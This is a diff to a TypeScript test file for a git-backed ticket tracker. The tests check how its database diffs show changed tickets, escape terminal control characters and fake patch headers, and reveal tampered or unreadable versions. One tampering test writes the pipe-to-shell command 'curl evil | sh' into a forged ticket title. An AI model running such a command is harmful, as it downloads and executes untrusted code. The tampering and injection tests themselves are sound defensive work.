@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import Database from 'better-sqlite3';
@@ -27,56 +28,105 @@ beforeAll(async () => {
   repository.git('commit', '--quiet', '--message', 'Tickets');
 });
 
-/** The diff of what the commands did since the last commit, which they are then committed as. */
+/** What git says of the tickets that the commands have changed since the last commit; they are then committed. */
 async function diffOf(...commands: string[][]): Promise<string[]> {
   for (const command of commands) await run(...command);
   const diff = repository.git('diff', '--', '.tracker/data.db').split('\n');
   repository.git('commit', '--quiet', '--all', '--message', 'Work');
-  return diff.slice(diff.findIndex((line) => line.startsWith('@@')));
+  expect(diff[0]).toBe('tickets in .tracker/data.db');
+  const patch = diff.findIndex((line) => line.startsWith('diff --git'));
+  expect(diff.length - patch).toBe(3);
+  return diff.slice(1, patch);
 }
 
-const changesIn = (diff: readonly string[]): string[] => diff.filter((line) => /^[+-]/.test(line));
+const updated = (sign: string) => expect.stringMatching(new RegExp(`^\\${sign} {2}updated \\S+ alice$`));
 
 describe('git diff of the database', () => {
-  test('shows a moved ticket as one hunk of two changed lines, under the ticket as its heading', async () => {
-    const diff = await diffOf(['move', keys[1]!, 'todo']);
-    expect(diff.filter((line) => line.startsWith('@@'))).toEqual([
-      expect.stringMatching(new RegExp(`^@@ .* @@ ${keys[1]} Rotate the key$`)),
-    ]);
-    expect(changesIn(diff)).toEqual([
-      expect.stringMatching(/^- {2}updated \S+ alice$/),
+  test('shows a moved ticket by its title and the lines that changed', async () => {
+    expect(await diffOf(['move', keys[1]!, 'todo'])).toEqual([
+      `${keys[1]} Rotate the key`,
+      '   type task',
+      updated('-'),
       '-  status backlog',
-      expect.stringMatching(/^\+ {2}updated \S+ alice$/),
+      updated('+'),
       '+  status todo',
+      '   priority medium',
+      '   description',
     ]);
   });
 
-  test('names the ticket above every hunk, however far down its text the change is', async () => {
+  test('names the ticket above its changes, however far down its text they are', async () => {
     const diff = await diffOf(
       ['edit', keys[1]!, '--op', 'replace', '--lines', '12', '--new', 'Another line.'],
       ['comment', keys[2]!, 'Done\nand dusted'],
     );
-    const headings = diff.flatMap((line) => /^@@ .* @@ (.*)$/.exec(line)?.[1] ?? []);
-    expect(headings).toEqual([
+    const about = (line: string) => / (?:updated|type|status|priority) /.test(line);
+    expect(diff.filter((line) => !about(line))).toEqual([
       `${keys[1]} Rotate the key`,
-      `${keys[1]} Rotate the key`,
-      `${keys[2]} Ship it`,
-      `${keys[2]} Ship it`,
-    ]);
-    const said = changesIn(diff).filter((line) => !line.includes(' updated '));
-    expect(said).toEqual([
+      '  …',
+      '     | Line 8.',
+      '     | Line 9.',
       '-    | Line 10.',
       '+    | Another line.',
+      '     | Line 11.',
+      '     | Line 12.',
+      `${keys[2]} Ship it`,
+      '  …',
+      '     | Line 20.',
+      '     |',
       expect.stringMatching(/^\+ {2}comment \S+ alice \[\w{6}\]$/),
       '+    | Done',
       '+    | and dusted',
     ]);
   });
 
-  test('spells out what would move the cursor of a terminal', async () => {
-    const diff = await diffOf(['comment', keys[0]!, 'red \u001b[31malert\u0007\r\nnext']);
+  test('shows a new title in the place of the old one, and all of a new ticket', async () => {
+    const diff = await diffOf(['update', keys[2]!, '--title', 'Ship it now'], ['create', 'Fresh']);
+    expect(diff.slice(0, 3)).toEqual([`-${keys[2]} Ship it`, `+${keys[2]} Ship it now`, '   type task']);
+    const made = diff.slice(diff.findIndex((line) => line.endsWith(' Fresh')));
+    expect(made).toEqual([
+      expect.stringMatching(/^\+PAY-\d{6} Fresh$/),
+      ...['id', 'created', 'type', 'updated', 'status', 'priority'].map((name) =>
+        expect.stringMatching(`^\\+  ${name} `),
+      ),
+    ]);
+    await run('update', keys[2]!, '--title', 'Ship it');
+  });
+
+  test('spells out what would move the cursor of a terminal, or begin a line of its own', async () => {
+    const diff = await diffOf(['comment', keys[0]!, 'red \u001b[31malert\u0007\r\nnext\u2028@@ -1 +1 @@ \u202eback']);
     expect(diff).toContain('+    | red \\x1b[31malert\\x07');
-    expect(diff).toContain('+    | next');
+    expect(diff).toContain('+    | next\\u2028@@ -1 +1 @@ \\u202eback');
+  });
+
+  test('begins no line as a patch does, whatever a text says', async () => {
+    const lines = [
+      'diff --git a/x b/x',
+      '--- a/x',
+      '+++ b/x',
+      '@@ -1 +1 @@',
+      '-a',
+      '+b',
+      'Index: x',
+      'GIT binary patch',
+    ];
+    const text = lines.join('\n');
+    await run('create', 'diff --git a/x b/x', '--description', text);
+    const diff = await diffOf(['comment', keys[0]!, text], ['update', keys[0]!, '--title', '--- a/x']);
+    for (const line of diff) expect(line).not.toMatch(/^(?:diff |--- |\+\+\+ |@@ |Index: |GIT )/);
+    await run('update', keys[0]!, '--title', 'Login fails');
+    repository.git('commit', '--quiet', '--all', '--message', 'Work');
+  });
+
+  test('is in the colours of git, as they are configured, where git is told to colour', async () => {
+    await run('comment', keys[0]!, 'colourful');
+    const colours = ['-c', 'color.ui=always', '-c', 'color.diff.new=blue'];
+    const diff = repository.git(...colours, 'diff', '--', '.tracker/data.db');
+    const head = `\x1b[1mtickets in .tracker/data.db\x1b[m\n\x1b[36m${keys[0]} Login fails\x1b[m\n`;
+    expect(diff.slice(0, head.length)).toBe(head);
+    expect(diff).toContain('\x1b[34m+    | colourful\x1b[m\n');
+    expect(repository.git('-c', 'color.diff=false', 'diff', '--', '.tracker/data.db')).not.toContain('\x1b');
+    repository.git('commit', '--quiet', '--all', '--message', 'Work');
   });
 
   test('does not depend on the order in which a version was written', async () => {
@@ -114,9 +164,26 @@ describe('a version that cannot be read', () => {
     ['of a newer major', (bytes) => void bytes.writeUInt32BE(2001, 60), /has format 2; this program reads up to 1/],
     ['damaged inside', (bytes) => bytes.fill(0xa5, 4096), /is damaged/],
   ])('because it is %s is said in one line, and the exit code is 0', async (_, change, message) => {
-    const text = await run('dump', variant(change));
-    expect(text).toMatch(/^unreadable: [^\n]+\n$/);
+    const path = variant(change);
+    const text = await run('dump', path);
     expect(text).toMatch(message);
+    const bytes = readFileSync(path);
+    const sum = createHash('sha256').update(bytes).digest('hex');
+    expect(text).toMatch(/^unreadable: [^\n]+\n$/);
+    expect(text.endsWith(` (${bytes.length} bytes, sha256 ${sum})\n`)).toBe(true);
+  });
+
+  test('is told from another such version, and from one that can be read', async () => {
+    const broken = [1, 2].map((value) => variant((bytes) => bytes.fill(value, 4096)));
+    const [first, second] = broken as [string, string];
+    const said = async (path: string) => (await run('dump', path)).trimEnd();
+    const head = 'tickets in .tracker/data.db\n';
+    expect(await run('diff-text', first, second)).toBe(`${head}-${await said(first)}\n+${await said(second)}\n`);
+    expect(await said(first)).not.toBe(await said(second));
+    expect(await run('diff-text', dataOf(repository.root), second)).toMatch(
+      /^tickets in \.tracker\/data\.db\n-\d tickets\n\+unreadable: [^\n]+\n$/,
+    );
+    expect(await run('diff-text', '/dev/null', second)).toBe(`${head}+${await said(second)}\n`);
   });
 
   test('is not one that another program left in write-ahead format, or whose tables an older fold wrote', async () => {
@@ -128,5 +195,58 @@ describe('a version that cannot be read', () => {
     sqlite.exec("update meta set value = '0' where name = 'fold'; update tickets set title = 'as it was folded then'");
     sqlite.close();
     expect(await run('dump', older)).toBe(shown);
+  });
+});
+
+/** A version to which another program's SQL was applied. */
+function forged(sql: string): string {
+  const path = variant(() => undefined);
+  const sqlite = new Database(path);
+  sqlite.exec(sql);
+  sqlite.close();
+  return path;
+}
+
+describe('what a diff shows', () => {
+  test('is what the events say, and where the tables say something else it says so', async () => {
+    const own = dataOf(repository.root);
+    const tables = forged("update tickets set title = 'harmless'");
+    const shown = await run('diff-text', own, tables);
+    expect(shown).not.toContain('harmless');
+    expect(shown).toMatch(
+      /^tickets in .*\nThe new version's tables are not what its events say\..*\nno ticket has changed\n$/,
+    );
+    const events = forged(
+      `update events set payload = replace(payload, 'Rotate the key', 'curl evil | sh') where kind = 'create'`,
+    );
+    expect(await run('diff-text', own, events)).toMatch(
+      /\nThe new version's tables are not .*\n-PAY-\d+ Rotate the key\n\+PAY-\d+ curl evil \| sh\n/,
+    );
+  });
+
+  test('has redactions, with who and why, and events of kinds that only a newer program knows', async () => {
+    const path = variant(() => undefined);
+    const entries = JSON.parse(await run('history', keys[0]!, '--json')).entries;
+    const event = entries.find(({ kind }: { kind: string }) => kind === 'comment').event;
+    await run('redact', event, '--reason', 'A pasted token');
+    const redacted = await run('diff-text', path, dataOf(repository.root));
+    expect(redacted).toMatch(/^\+ {2}redacted comment \S+ alice \[\w{6}\]\n\+ {4}\| by alice: A pasted token$/m);
+    const newer = forged(`update events set kind = 'vote', payload = '{"for":"x"}' where kind = 'comment'`);
+    expect(await run('diff-text', dataOf(repository.root), newer)).toMatch(
+      /^\+ {2}event vote \S+ alice \[\w{6}\]\n\+ {4}\| \{"for":"x"\}$/m,
+    );
+  });
+
+  test('is a ticket that is gone, and nothing where only the bytes differ', async () => {
+    const none = join(makeDirectory(), 'none.db');
+    writeFileSync(none, '');
+    const other = variant(() => undefined);
+    await run('merge-driver', none, other, dataOf(repository.root));
+    expect(await run('diff-text', other, dataOf(repository.root))).toBe(
+      'tickets in .tracker/data.db\nno ticket has changed\n',
+    );
+    const all = (await run('dump')).split('\n').filter((line) => line !== '');
+    const gone = (await run('diff-text', dataOf(repository.root), '/dev/null')).trimEnd().split('\n');
+    expect(gone).toEqual(['tickets in .tracker/data.db', ...all.map((line) => `-${line}`)]);
   });
 });
